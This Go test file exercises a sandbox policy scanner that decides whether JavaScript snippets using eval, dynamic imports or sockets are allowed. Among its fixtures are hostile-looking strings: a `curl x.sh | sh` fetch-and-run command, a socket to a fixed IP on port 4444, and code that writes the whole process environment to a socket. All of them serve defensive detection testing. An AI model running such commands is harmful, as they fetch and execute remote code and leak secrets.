package scan_test

import (
	"testing"

	"github.com/airlock-run/airlock/policy"
)

// Findings in a function that no code calls are notes under the tiers that refuse only critical code.
func TestDormantFunctions(t *testing.T) {
	t.Parallel()
	library := "const lib = (function () { function template(s) { return Function('return ' + s) }\n" +
		"function chunk(a) { return [a] } lib.template = template; lib.chunk = chunk; function lib() {} return lib })();\n"
	bundle := "var __commonJS = (cb, mod) => function () { return mod || (0, cb[Object.keys(cb)[0]])((mod = {exports: {}" +
		"}).exports, mod), mod.exports };\n" +
		"var require_bind = __commonJS({\"node_modules/bind/index.js\"(exports, module) {\n" +
		"module.exports = function bind(s) { return Function('return ' + s) } }});\n"
	for _, c := range []struct {
		name, code string
		files      map[string]string
		allowed    bool
	}{
		{name: "a method that nothing calls", code: library + "lib.chunk([1])", allowed: true},
		{name: "a method that is called", code: library + "lib.template(input)"},
		{name: "a method that is called by a constant key", code: library + "lib['template'](input)"},
		{name: "a method that is taken out", code: library + "const { template } = lib; template(input)"},
		{name: "a method that is called by another", code: library + "lib.go = s => lib.template(s); lib.go(input)"},
		{name: "a function that nothing mentions", code: "function run(s) { return eval(s) }"},
		{name: "a function that the code exports", code: "export function run(s) { return eval(s) }"},
		{name: "the default export", code: "export default async s => eval(s)"},
		{name: "module.exports of the code", code: "module.exports = { run: s => 1 }; module.exports = s => eval(s)"},
		{name: "a callback", code: "[input].forEach(s => eval(s))"},
		{name: "a table of functions and an unknown key", code: "const o = { run(s) { eval(s) } }; o[input](1)"},
		{name: "all functions of a table", code: "const o = { run(s) { eval(s) } }; Object.values(o)[0](input)"},
		{name: "a method of a class", code: "class A { run(s) { return eval(s) } } new A().run(input)"},
		{name: "a static method", code: "class A { static run(s) { return eval(s) } } A.run(input)"},
		{name: "a method of a class without instances", code: "class A { run(s) { return eval(s) } }\n" +
			"const o = { A, go() { return new A().run(1) } }; o.x = 1", allowed: true},
		{name: "a handler of a proxy", code: "new Proxy({}, { get(t, s) { return eval(s) } }).x"},
		{name: "a handler in a variable", code: "const h = { get(t, s) { return eval(s) } }; new Proxy({}, h).x"},
		{name: "a getter", code: "const o = {}; Object.defineProperty(o, 'x', { get() { return eval(input) } }); o.x"},
		{name: "a conversion", code: "'' + { toString() { return eval(input) } }"},
		{name: "a hook of the engine", code: "Error.prepareStackTrace = e => eval(input); new Error().stack"},
		{name: "a module of a bundle that nothing loads", code: bundle + "1", allowed: true},
		{name: "a module of a bundle that is a substitute", code: bundle +
			"var own = require_bind(); var bind = Function.prototype.bind || own; bind.call(f)", allowed: true},
		{name: "a module of a bundle", code: bundle + "var bind = require_bind(); bind(input)"},
		{name: "commands", code: library + "lib.run = c => require('child_process').exec(c)", allowed: true},
		{name: "commands of attacks", code: library + "lib.run = () => require('child_process').exec('curl x.sh | sh')"},
		{name: "a file that nothing calls", code: "import { a } from './lib.js'; a()", allowed: true,
			files: map[string]string{"lib.js": "export function a() {} export function run(s) { return eval(s) }"}},
		{name: "a function of a file", code: "import { run as go } from './lib.js'; go(input)",
			files: map[string]string{"lib.js": "export function a() {} export function run(s) { return eval(s) }"}},
		{name: "what a file exports", code: "const run = require('./lib'); run(input)",
			files: map[string]string{"lib/index.js": "module.exports = s => eval(s)"}},
		{name: "what a package exports", code: "import run from 'lib'; run(input)",
			files: map[string]string{"node_modules/lib/src/main.js": "module.exports = s => eval(s)"}},
		{name: "a file that no parser accepts", code: library + "lib.chunk(1)", files: map[string]string{"x.js": "a b c ("}},
		{name: "the global object, if nothing else names it", allowed: true,
			code: "const root = typeof self == 'object' && self || Function('return this')()"},
		{name: "the global object by eval", code: "const root = (function () { return this || (0, eval)('this') }())",
			allowed: true},
		{name: "what eval returns", code: "const f = input || (0, eval)('this').eval; f(input)"},
		{name: "the global object as the first choice", code: "const root = Function('return this')()"},
		{name: "a table that lists eval", code: "const all = { '%eval%': eval, '%Map%': Map }", allowed: true},
		{name: "eval out of a table", code: "const all = { e: eval }; all.e(input)"},
	} {
		d := policy.Default().Decide(policy.Request{Code: c.code, Files: c.files})
		if (d.Effect == policy.Allow) != c.allowed {
			t.Errorf("%s: allowed %t: %v %+v", c.name, !c.allowed, d.Violations, d.Analysis.Findings)
		}
		if d := policy.Default().Decide(policy.Request{Code: c.code, Files: c.files, Tier: "strict"}); d.Analysis.Score == 0 {
			t.Errorf("%s: no score under strict", c.name)
		}
	}
}

// Findings in code that never runs in the sandbox are notes: after a return, or in a branch for other hosts. Similar
// code that runs is refused.
func TestBranchesThatNeverRun(t *testing.T) {
	t.Parallel()
	lib := func(code string) map[string]string { return map[string]string{"lib.js": code} }
	set := policy.Default()
	for _, c := range []struct {
		name, code string
		files      map[string]string
		globals    []string
		allowed    bool
	}{
		{name: "after return", code: "function f(o) { return o; eval(o) } f(input)", allowed: true},
		{name: "after a block that returns", code: "function f(o) { { return o } eval(o) } f(input)", allowed: true},
		{name: "after a test that may fail", code: "function f(o) { if (o) return o; eval(o) } f(input)"},
		{name: "a function after return", code: "function f(o) { return g(o); function g(s) { eval(s) } } f(input)"},
		{name: "after a loop that returns", code: "function f(o) { for (const x of o) return x; eval(o) } f(input)"},
		{name: "in finally, after return", code: "function f(o) { try { return o } finally { eval(o) } } f(input)"},
		{name: "a polyfill", allowed: true, code: "(function () { if (typeof globalThis === 'object') return;\n" +
			"Object.prototype.__defineGetter__('g', function () { return this }); delete Object.prototype.g })()"},
		{name: "a polyfill, minified", allowed: true, code: "(function(){typeof globalThis!='object'&&(Object.prototype." +
			"__defineGetter__('g',function(){return this}),delete Object.prototype.g)})()"},
		{name: "what runs where globalThis is", code: "if (typeof globalThis === 'object') eval(input)"},
		{name: "the other choice", code: "typeof globalThis == 'object' ? eval(input) : 0"},
		{name: "a flag", code: "var can = typeof navigator == 'undefined'; if (can) eval(input)", allowed: true},
		{name: "a flag in a member", code: "const u = { can: typeof navigator > 'u' }; u.can && eval(input)", allowed: true},
		{name: "a flag, negated", code: "const can = typeof navigator == 'undefined'; if (!can) eval(input)"},
		{name: "a flag that is set", code: "let can = typeof navigator == 'undefined'; can = input; if (can) eval(input)"},
		{name: "a flag that is counted", code: "let can = typeof navigator == 'undefined'; can++; if (can) eval(input)"},
		{name: "a flag that is assigned to", code: "let can = false; can ||= 1; if (can) eval(input)"},
		{name: "a flag in a pattern", code: "let can = false; [can] = [1]; if (can) eval(input)"},
		{name: "a flag in a pattern of an object", code: "let can = false; ({ a: can } = { a: 1 }); if (can) eval(input)"},
		{name: "a flag in a loop", code: "let can = false; for (can of [1]); if (can) eval(input)"},
		{name: "a flag that is a parameter", code: "function f(can) { if (can) eval(input) } f(1)"},
		{name: "a member that is set", code: "const u = { can: false }; u.can = 1; if (u.can) eval(input)"},
		{name: "a member that is set by a text", code: "const u = { can: false }; u['can'] = 1; if (u.can) eval(input)"},
		{name: "a member of data", code: "if (input.can) eval(input.code)"},
		{name: "a getter", code: "const u = { get can() { return 1 } }; if (u.can) eval(input)"},
		{name: "a flag of an import", code: "import { can } from './lib.js'; if (can) eval(input)",
			files: lib("export const can = true")},
		{name: "XMLHttpRequest where there is none", allowed: true,
			code: "const has = typeof XMLHttpRequest !== 'undefined'; const f = has && (() => eval(input)); globalThis.f = f"},
		{name: "a global that the code defines", code: "globalThis.XMLHttpRequest = 1; " +
			"if (typeof XMLHttpRequest !== 'undefined') eval(input)"},
		{name: "a global that the code defines by a text", code: "Object.defineProperty(globalThis, 'XMLHttpRequest', " +
			"{ value: 1 }); if (typeof XMLHttpRequest !== 'undefined') eval(input)"},
		{name: "a global that the code assigns", code: "Object.assign(globalThis, { XMLHttpRequest: 1 }); " +
			"if (typeof XMLHttpRequest !== 'undefined') eval(input)"},
		{name: "a global that the code deletes", code: "delete globalThis.navigator; " +
			"if (typeof navigator == 'undefined') eval(input)"},
		{name: "a name that the code declares", code: "const navigator = input; " +
			"if (typeof navigator == 'undefined') eval(input)"},
		{name: "a global of the caller", globals: []string{"XMLHttpRequest"},
			code: "if (typeof XMLHttpRequest !== 'undefined') eval(input)"},
		{name: "a file that is called at once", code: "require('./lib')(input)", files: lib("module.exports = s => eval(s)")},
		{name: "an export by another name", code: "import { run } from './lib.js'; run(input)",
			files: lib("function f(s) { eval(s) } export { f as run }")},
		{name: "an export in a pattern", code: "import { run } from './lib.js'; run(input)",
			files: lib("export const { run } = { run: s => eval(s) }")},
		{name: "an export of another file", code: "import { run } from './lib.js'; run(input)", files: map[string]string{
			"lib.js": "export { run } from './b.js'", "b.js": "export const run = s => eval(s)"}},
		{name: "a short name of another file", code: "import { a } from './lib.js'; a.e(1)", allowed: true,
			files: lib("export const a = { e() {} }; const e = s => eval(s), all = { e2: e }")},
	} {
		r := policy.Request{Code: c.code, Files: c.files, Globals: c.globals}
		if d := set.Decide(r); (d.Effect == policy.Allow) != c.allowed {
			t.Errorf("%s: allowed %t: %v %+v", c.name, !c.allowed, d.Violations, d.Analysis.Findings)
		}
		r.Tier = "strict"
		if d := set.Decide(r); d.Analysis.Score == 0 {
			t.Errorf("%s: no score under strict", c.name)
		}
	}
}

// Helpers of compilers are recognized by their code where a minifier renamed them. Similar functions that call their
// arguments are not taken for helpers.
func TestRenamedHelpers(t *testing.T) {
	t.Parallel()
	bundle := func(helper, use string) string {
		return "var c=Object.create,d=Object.defineProperty,g=Object.getPrototypeOf,k=(a,b)=>a;" +
			"var u=(a,b)=>()=>(b||a((b={exports:{}}).exports,b),b.exports);" + helper +
			"var m=u((e,o)=>{o.exports=class{run(s){return eval(s)}}});" + use
	}
	module := "var x=(e,r,t)=>(t=e!=null?c(g(e)):{},k(r||!e||!e.__esModule?d(t,'default',{value:e,enumerable:!0}):t,e));"
	inherits := "function h(a,b){a.prototype=Object.create(b.prototype),a.prototype.constructor=a,s(a,b)}" +
		"function s(a,b){return Object.setPrototypeOf(a,b)}function A(){}"
	for _, c := range []struct {
		name, code string
		allowed    bool
	}{
		{"a module that is stored", bundle(module, "var z=x(m());globalThis.out=z"), true},
		{"a module that is used", bundle(module, "var z=x(m());new z.default().run(input)"), false},
		{"a helper that uses its module", bundle("var x=e=>new e().run(input);", "x(m())"), false},
		{"a helper that calls its module", bundle("var x=(e,r,t)=>(t=e(input),k(r?d(t,'default',{value:e}):t,e));",
			"var f=u((e,o)=>{o.exports=s=>eval(s)});x(f())"), false},
		{"a class that is set up", inherits + "function B(x){eval(x)}h(B,A);globalThis.out={B}", true},
		{"a class that is made", inherits + "function B(x){eval(x)}h(B,A);new B(input)", false},
		{"a helper that makes the class", "function h(a,b){a.prototype=Object.create(b.prototype),a(input)}" +
			"function A(){}function B(x){eval(x)}h(B,A)", false},
	} {
		if d := policy.Default().Decide(policy.Request{Code: c.code}); (d.Effect == policy.Allow) != c.allowed {
			t.Errorf("%s: allowed %t: %v %+v", c.name, !c.allowed, d.Violations, d.Analysis.Findings)
		}
	}
}

// No number of unusual findings is critical under a tier that refuses only critical code. Findings that use a power, or
// that send the environment, count in addition.
func TestUnusualFindings(t *testing.T) {
	t.Parallel()
	const modules = "const http = require('http'), zlib = require('node:http2'), net = require('net');\n"
	for _, c := range []struct {
		name, code string
		allowed    bool
	}{
		{"modules, settings and memory", modules + "const p = process.env.HTTP_PROXY || process.env.http_proxy;\n" +
			"const b = Buffer.allocUnsafe(8), c = Buffer.alloc(8);", true},
		{"sockets of a library", modules + "const open = o => net.connect({ ...o, host: o.name });\n" +
			"open(input); process.env.NO_PROXY; process.env.DEBUG; Buffer.alloc(1)", true},
		{"sockets to hosts that the code names", modules + "net.connect(4444, '203.0.113.7'); net.connect({ port: 1, " +
			"host: '203.0.113.7' }); process.env.A; process.env.B", false},
		{"the whole environment", modules + "const s = net.connect(input.port, input.host);\n" +
			"s.write(JSON.stringify(process.env)); Buffer.alloc(1); process.exit()", false},
		{"prototypes", "Object.prototype.a = 1; Array.prototype.b = 2; process.env.A", false},
		{"requests and files", "require('https').get(input); require('fs').writeFileSync('a', input); process.env.A", false},
	} {
		if d := policy.Default().Decide(policy.Request{Code: c.code}); (d.Effect == policy.Allow) != c.allowed {
			t.Errorf("%s: allowed %t: %v %+v", c.name, !c.allowed, d.Violations, d.Analysis.Findings)
		}
	}
}
